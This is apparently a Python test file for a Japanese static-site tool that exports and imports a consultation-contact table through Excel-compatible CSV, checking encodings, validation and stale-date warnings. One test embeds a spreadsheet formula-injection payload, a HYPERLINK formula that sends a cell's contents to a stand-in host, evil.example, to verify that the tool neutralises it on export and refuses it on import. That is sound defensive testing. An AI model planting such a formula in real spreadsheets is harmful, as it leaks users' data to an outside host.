"""The contact table: validation on build, and the Excel round trip through the CLI."""
import shutil
import subprocess

from helpers import REPO, ProjectTest, run

TABLE = """reviewed = 2026-06-01

[[contact]]
group = "県内の窓口"
topic = "経済安全保障全般"
organization = "愛知県 経済産業局 産業部 産業科学技術課"
url = "https://www.pref.aichi.jp/soshiki/san-kagi/"
phone = "052-954-6370"
id = "aichi-pref"

[[contact]]
group = "国の窓口"
topic = "サイバーセキュリティ対応"
organization = "IPA「情報セキュリティ安心相談窓口」"
url = "https://www.ipa.go.jp/security/anshin/about.html"
phone = "03-5978-7509"
id = "ipa-anshin"
"""

PAGE = '+++\ntitle = "相談先一覧"\ncontacts = true\n+++\n\n困ったときは、次の窓口に相談します。\n'


class ContactsRoundTrip(ProjectTest):
    def setUp(self):
        super().setUp()
        self.write("content/contacts.toml", TABLE)
        self.write("content/incident/contacts.md", PAGE)
        self.csv = self.root / "相談先.csv"

    def test_export_opens_in_excel(self):
        result = run("contacts", "export", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual(result.stdout, f"mamori: wrote 2 contacts to {self.csv} (UTF-8 CSV for Excel)\n")
        data = self.csv.read_bytes()
        self.assertTrue(data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so Excel reads it as UTF-8")
        lines = data[3:].decode("utf-8").split("\r\n")
        self.assertEqual(lines[0], "最終確認日,2026-06-01")
        self.assertEqual(lines[1], "ID,区分,相談内容,相談先,URL,電話番号,メール,備考")
        self.assertTrue(lines[2].startswith("aichi-pref,県内の窓口,"))

    def test_a_cp932_file_from_excel_is_imported_and_built(self):
        run("contacts", "export", self.csv, "--root", self.root)
        text = self.csv.read_bytes()[3:].decode("utf-8").replace("03-5978-7509", "０３－５９７８－７５１０")
        # Excel's "CSV (コンマ区切り)" is Shift_JIS (CP932): make one with iconv, as Excel would.
        sjis = subprocess.run(["iconv", "-f", "UTF-8", "-t", "CP932"], input=text.encode("utf-8"),
                              capture_output=True, check=True).stdout
        self.csv.write_bytes(sjis)
        dry = run("contacts", "import", self.csv, "--root", self.root, "--dry-run")
        self.assertEqual(dry.returncode, 0, dry.stderr)
        self.assertIn("changed: IPA「情報セキュリティ安心相談窓口」（サイバーセキュリティ対応） 電話番号 "
                      "'03-5978-7509' → '03-5978-7510'", dry.stdout)
        self.assertEqual((self.root / "content/contacts.toml").read_text(encoding="utf-8"), TABLE)
        result = run("contacts", "import", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertEqual((self.root / "content/contacts.toml.bak").read_text(encoding="utf-8"), TABLE)
        self.assertIn('phone = "03-5978-7510"', (self.root / "content/contacts.toml").read_text(encoding="utf-8"))
        build = run("build", "--root", self.root)
        self.assertEqual(build.returncode, 0, build.stderr)
        page = (self.root / "site/incident/contacts.html").read_text(encoding="utf-8")
        self.assertIn('<a class="tel" href="tel:03-5978-7510">03-5978-7510</a>', page)
        self.assertIn("<caption>国の窓口</caption>", page)
        self.assertIn('<th scope="row">経済安全保障全般</th>', page)
        self.assertFalse((self.root / "site/contacts.toml.bak").exists(), "backups are not published")

    def test_export_then_import_changes_nothing(self):
        shutil.copy(REPO / "content/contacts.toml", self.root / "content/contacts.toml")
        before = (self.root / "content/contacts.toml").read_bytes()
        run("contacts", "export", self.csv, "--root", self.root)
        result = run("contacts", "import", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("nothing to change", result.stdout)
        self.assertEqual((self.root / "content/contacts.toml").read_bytes(), before)

    def test_formulas_are_neutralised_on_export_and_refused_on_import(self):
        evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
        self.write("content/contacts.toml", TABLE.replace('phone = "03-5978-7509"\n',
                                                          'phone = "03-5978-7509"\nnote = ' +
                                                          '"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"詳細\\")"\n'))
        before = (self.root / "content/contacts.toml").read_bytes()
        run("contacts", "export", self.csv, "--root", self.root)
        text = self.csv.read_bytes()[3:].decode("utf-8")
        self.assertIn(',"\'=HYPERLINK(""http://evil.example/?""&A1,""詳細"")"\r\n', text)
        self.assertNotIn(',"=HYPERLINK', text, "no cell starts with '=' for Excel")
        # The exported file imports back unchanged: the apostrophe comes off again.
        result = run("contacts", "import", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("changed: the layout of contacts.toml (same contents)", result.stdout)
        after = (self.root / "content/contacts.toml").read_bytes()
        self.assertIn('note = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"詳細\\")"\n', after.decode("utf-8"))
        self.assertEqual(after.count(b"\nnote = "), before.count(b"\nnote = "))
        # A cell an attacker wrote without the apostrophe is refused, with its row and column.
        self.csv.write_text(text.replace("'=HYPERLINK", "=HYPERLINK"), encoding="utf-8")
        result = run("contacts", "import", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 1)
        self.assertIn(f"{self.csv}:4:8: error: column H (備考): '{evil}' starts with '=', which Excel runs as a formula", result.stderr)
        self.assertEqual((self.root / "content/contacts.toml").read_bytes(), after)

    def test_a_bad_row_changes_nothing(self):
        self.csv.write_text("最終確認日,2026-07-01\n区分,相談内容,相談先,URL,電話番号\n"
                            "県内,相談,警察,https://x.example.jp/,110-1\n", encoding="utf-8")
        result = run("contacts", "import", self.csv, "--root", self.root)
        self.assertEqual(result.returncode, 1)
        self.assertIn(f"{self.csv}:3:5: error: column E (電話番号): phone number '110-1' is not a Japanese phone number", result.stderr)
        self.assertEqual((self.root / "content/contacts.toml").read_text(encoding="utf-8"), TABLE)
        self.assertFalse((self.root / "content/contacts.toml.bak").exists())

    def test_an_old_table_warns_the_editors_and_readers_see_its_date(self):
        self.write("content/contacts.toml", TABLE.replace("2026-06-01", "2024-01-15"))
        result = run("build", "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("content/contacts.toml:1:12: warning: the contact table was last reviewed on 2024-01-15, "
                      "34 months ago: check every number and URL, then update 'reviewed'", result.stderr)
        page = (self.root / "site/incident/contacts.html").read_text(encoding="utf-8")
        self.assertIn('この一覧の最終確認日：<time datetime="2024-01-15">2024年1月15日</time>', page)
        self.assertNotIn("notice-stale", page)
        # With a reader notice asked for, one notice, dated, with no count of months.
        config = (self.root / "mamori.toml").read_text(encoding="utf-8")
        self.write("mamori.toml", config + "reader_notice_after_months = 24\n")
        self.assertEqual(run("build", "--root", self.root).returncode, 0)
        page = (self.root / "site/incident/contacts.html").read_text(encoding="utf-8")
        self.assertEqual(page.count("notice-stale"), 1)
        self.assertIn('この一覧は<time datetime="2024-01-15">2024年1月15日</time>に確認したものです。', page)
        self.assertNotIn("か月", page)

    def test_invalid_contacts_fail_the_build(self):
        self.write("content/contacts.toml", TABLE.replace('phone = "052-954-6370"', 'phone = "052-954"'))
        result = run("build", "--root", self.root)
        self.assertEqual(result.returncode, 1)
        self.assertIn("content/contacts.toml:8:9: error: phone number '052-954' is not a Japanese phone number",
                      result.stderr)


class ContactsHints(ProjectTest):
    """What an editor is told when the file, an address, the date or the folder is not what mamori expects."""

    XLSX_HINT = ("error: this is an Excel workbook (.xlsx or .xls), not a CSV file: in Excel, choose File → Save As → "
                 "CSV UTF-8 (Comma delimited), then import that file")

    def setUp(self):
        super().setUp()
        self.write("content/contacts.toml", TABLE)
        self.write("content/incident/contacts.md", PAGE)

    def test_an_excel_workbook_gets_the_save_as_csv_hint_whatever_its_name(self):
        xlsx = b"PK\x03\x04\x14\x00\x06\x00\x08\x00[Content_Types].xml" + bytes(64)
        xls = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
        for name, data in (("相談先.xlsx", xlsx), ("相談先.xls", xls), ("本当はzip.csv", xlsx)):
            path = self.write(name, data)
            result = run("contacts", "import", path, "--root", self.root)
            self.assertEqual(result.returncode, 1, name)
            self.assertEqual(result.stderr, f"{path}: {self.XLSX_HINT}\n"
                                            "mamori: 1 error; content/contacts.toml was not changed\n")
        self.assertEqual((self.root / "content/contacts.toml").read_text(encoding="utf-8"), TABLE)

    def test_a_full_width_address_is_imported_as_ascii(self):
        csv = self.write("相談先.csv", "最終確認日,2026-07-01\nID,区分,相談内容,相談先,電話番号,メール\n"
                                       "soudan,県内,相談,窓口,052-954-6370,ｓｏｕｄａｎ＿１＠ｅｘａｍｐｌｅ．ｌｇ．ｊｐ\n")
        result = run("contacts", "import", csv, "--root", self.root)
        self.assertEqual(result.returncode, 0, result.stderr)
        table = (self.root / "content/contacts.toml").read_text(encoding="utf-8")
        self.assertIn('email = "soudan_1@example.lg.jp"\n', table)

    def test_a_future_date_is_refused_in_the_csv_and_in_the_table(self):
        csv = self.write("相談先.csv", "最終確認日,2027-01-05\nID,区分,相談内容,相談先,電話番号\n"
                                       "soudan,県内,相談,窓口,052-954-6370\n")
        result = run("contacts", "import", csv, "--root", self.root)
        self.assertEqual(result.returncode, 1)
        self.assertIn(f"{csv}:1:2: error: 最終確認日 (reviewed) 2027-01-05 is in the future: today is 2026-11-23; "
                      "write the date the table was last checked", result.stderr)
        self.assertEqual((self.root / "content/contacts.toml").read_text(encoding="utf-8"), TABLE)
        # The day after today passes: an editor in JST may be a day ahead of a server on UTC.
        csv.write_text(csv.read_text(encoding="utf-8").replace("2027-01-05", "2026-11-24"), encoding="utf-8")
        self.assertEqual(run("contacts", "import", csv, "--root", self.root).returncode, 0)
        self.write("content/contacts.toml", TABLE.replace("2026-06-01", "2026-12-01"))
        build = run("check", "--root", self.root)
        self.assertEqual(build.returncode, 1)
        self.assertIn("content/contacts.toml:1:12: error: 最終確認日 (reviewed) 2026-12-01 is in the future: today is "
                      "2026-11-23; write the date the table was last checked", build.stderr)

    def test_outside_the_project_the_folder_is_named(self):
        elsewhere = self.root / "content"
        message = (f"no content/contacts.toml in {elsewhere}: run mamori in the project folder (the one holding "
                   "mamori.toml) or pass --root DIR")
        exported = run("contacts", "export", self.root / "a.csv", cwd=elsewhere)
        self.assertEqual(exported.returncode, 2)
        self.assertEqual(exported.stderr, f"mamori: error: {message}\n")
        csv = self.write("相談先.csv", "最終確認日,2026-07-01\n区分,相談内容,相談先,電話番号\n県内,相談,窓口,052-954-6370\n")
        imported = run("contacts", "import", csv, cwd=elsewhere)
        # Found by a user test: this was "content/contacts.toml: error: …", a path that is not
        # there, with exit status 1 as for a problem in the CSV.
        self.assertEqual(imported.returncode, 2)
        self.assertEqual(imported.stderr, f"mamori: error: {message}\n")
